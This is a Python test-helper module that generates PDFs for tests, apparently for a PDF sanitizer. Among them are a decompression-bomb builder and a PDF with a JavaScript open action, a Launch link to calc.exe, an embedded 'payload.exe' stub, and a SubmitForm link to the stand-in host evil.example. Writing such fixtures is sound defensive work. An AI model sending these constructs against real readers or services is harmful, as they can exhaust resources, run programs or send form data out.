"""PDFs made in the tests, so no binary fixtures are needed."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfWriter


def make_pdf(pages: int = 1, *, password: str | None = None, width: float = 595, height: float = 842) -> bytes:
    """A valid A4 PDF with `pages` blank pages; encrypted with `password` when given."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=width, height=height)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF written by hand from its numbered objects (1 is the catalog), with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def make_many_pages_pdf(pages: int) -> bytes:
    """A valid PDF of `pages` blank pages, written directly: 50,000 pages take a second, not minutes."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"
    return _raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages]
        + [page] * pages
    )


def make_inflating_pdf(inflated_mb: int) -> bytes:
    """A one-page PDF of a few hundred kilobytes whose page content inflates to `inflated_mb` MB
    (blank space a renderer must still read through): a decompression bomb."""
    packer = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    content = b"".join(packer.compress(chunk) for _ in range(inflated_mb)) + packer.flush()
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
        ]
    )


def make_active_pdf() -> bytes:
    """A one-page PDF with active content of every kind a reader might run: a JavaScript open
    action, page and document additional actions, a launch link, a submit-form link, and an
    embedded file (in the names tree and as a file-attachment annotation)."""
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >>"
            b" /Names << /JavaScript << /Names [(run) 5 0 R] >>"
            b" /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R"
            b" /AA << /O 5 0 R >> /Annots [6 0 R 9 0 R 10 0 R] >>",
            b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Contract text) Tj ET\nendstream",
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>",
            b"<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 11 >>\nstream\nMZ-payload!\nendstream",
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [100 100 120 120] /FS 7 0 R >>",
            b"<< /Type /Annot /Subtype /Link /Rect [200 200 300 300]"
            b" /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>",
        ]
    )
